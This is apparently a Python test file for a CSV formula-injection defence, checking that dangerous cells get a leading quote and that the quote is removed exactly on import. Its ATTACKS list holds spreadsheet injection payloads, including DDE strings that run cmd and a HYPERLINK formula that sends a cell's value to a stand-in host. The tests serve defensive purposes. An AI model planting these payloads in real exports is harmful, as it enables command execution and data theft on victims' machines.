"""Formula injection: the quote that neutralises a CSV cell, and its exact removal on import."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from innofin.ingest.formulas import FORMULA_START, neutralise, restore, restore_expr
from innofin.ingest.writers import csv_cell

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
]

#: text built from the characters that matter here, plus ordinary ones
texts = st.text(alphabet=st.sampled_from([*FORMULA_START, "'", "a", "甲", " ", '"', ","]))


def test_attack_cells_start_with_a_quote() -> None:
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
        assert csv_cell(attack) == "'" + attack


def test_numbers_and_dates_are_not_neutralised() -> None:
    assert csv_cell(Decimal("-2500.50")) == "-2500.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(dt.date(2024, 1, 31)) == "2024-01-31"
    assert csv_cell(None) == ""
    assert csv_cell("-2500.50") == "'-2500.50"  # the same characters as text are neutralised


def test_genuine_quotes_survive() -> None:
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"
    assert neutralise("'hello") == "'hello" and restore("'hello") == "'hello"
    assert neutralise("'") == "'" and restore("'") == "'"
    assert restore("'=x") == "=x"  # Excel's own text marker, typed by a person, is dropped


@given(texts)
def test_no_neutralised_cell_starts_like_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert not cell or cell[0] not in FORMULA_START


@given(texts)
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.lists(texts, max_size=20))
def test_the_column_expression_equals_restore(values: list[str]) -> None:
    cells = [neutralise(v) for v in values]
    frame = pl.DataFrame({"c": cells}, schema={"c": pl.Utf8})
    assert frame.select(restore_expr(pl.col("c")))["c"].to_list() == values
